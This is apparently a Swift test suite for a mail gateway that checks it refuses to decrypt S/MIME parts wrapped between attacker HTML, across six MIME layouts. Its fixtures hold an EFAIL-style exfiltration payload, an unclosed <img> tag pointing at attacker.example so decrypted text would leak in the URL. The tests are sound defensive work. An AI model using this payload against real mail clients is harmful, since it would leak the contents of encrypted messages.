import MIME
import SMIME
import Testing

@testable import Gateway

@Suite("A1.1, A-33 direct exfiltration: an encrypted part between an attacker's HTML is never opened")
struct GateA1x1DirectExfiltration {
    private static let open = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
    private static let close = "Content-Type: text/html\r\n\r\n\">\r\n"

    enum Shape: String, CaseIterable, Sendable {
        case mixed, alternative, related, nested, forwarded, preamble
    }

    private func content(_ shape: Shape, _ part: String) -> String {
        switch shape {
        case .mixed: MailShapes.multipart("mixed", [Self.open, part, Self.close])
        case .alternative: MailShapes.multipart("alternative", [Self.open, part, Self.close])
        case .related: MailShapes.multipart("related; type=\"text/html\"", [Self.open, part])
        case .nested:
            MailShapes.multipart("mixed", [MailShapes.multipart("related", [Self.open, part], boundary: "inner"), Self.close])
        case .forwarded: MailShapes.multipart("mixed", [Self.open, MailShapes.forwarded(part), Self.close])
        case .preamble:
            MailShapes.multipart("mixed", [part]).replacing(
                "\r\n\r\n--x\r\n", with: "\r\n\r\n<img src=\"http://attacker.example/\r\n--x\r\n")
        }
    }

    @Test("delivered unchanged below the marks, the ciphertext still ciphertext", arguments: Shape.allCases)
    func closed(_ shape: Shape) async throws {
        let fixture = try await InwardFixture()
        for cipher in [SMIMEWriter.Cipher.aes256GCM, .aes256CBC] {
            let part = MailShapes.entity(of: try fixture.encrypt(cipher: cipher))
            let mail = InwardFixture.mail(content(shape, part))
            let (copies, trace) = try await fixture.arrival(mail)
            let copy = try #require(copies.first)
            #expect(copy.keeps(mail) && !copy.showsMark && copy.positiveMarks.isEmpty)
            #expect(copy.info("Encrypted-Part-Not-Root") == "True")
            #expect(copy.info("SMIME-Encrypted") == nil)
            #expect(trace.story.contains("an encrypted part is not the root and was not opened"))
        }
    }

    @Test("the same below a signature and within an encrypted layer: no word of it beside the attacker's", arguments: Shape.allCases)
    func deeper(_ shape: Shape) async throws {
        let fixture = try await InwardFixture()
        let mail = InwardFixture.mail(content(shape, MailShapes.entity(of: try fixture.encrypt())))
        for wrapped in [try fixture.sign(mail), try fixture.encrypt(mail), try fixture.encrypt(fixture.sign(mail))] {
            let copy = try await fixture.delivered(wrapped)
            #expect(!copy.showsMark && copy.info("Encrypted-Part-Not-Root") == "True")
        }
    }
}
